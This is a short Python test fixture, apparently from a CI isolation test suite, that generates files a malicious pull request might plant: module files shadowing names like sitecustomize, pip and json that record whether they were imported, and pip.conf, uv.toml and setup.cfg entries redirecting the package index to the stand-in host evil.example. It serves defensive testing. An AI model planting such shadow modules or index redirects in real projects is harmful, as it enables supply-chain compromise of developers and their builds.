"""Files that a pull request may put into the workspace in the hope that something runs or reads them."""

from __future__ import annotations

SHADOWS = ("yaml", "pip", "venv", "click", "floe_contracts", "sitecustomize", "usercustomize", "json", "encodings")


def shadowing(trace: str) -> dict[str, str | None]:
    """Modules and settings in the root of the workspace that would run or count if anything looked there."""
    script = f"open({trace!r}, 'a').write(__name__ + '\\n')\n"
    settings = {
        "uv.toml": 'index-url = "https://evil.example/simple"\n',
        "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
        "setup.cfg": "[global]\nindex-url = https://evil.example/simple\n",
        ".python-version": "2.7\n",
        "constraints.txt": "click==0.0.1\n",
    }
    return {**{f"{name}.py": script for name in SHADOWS}, **settings}
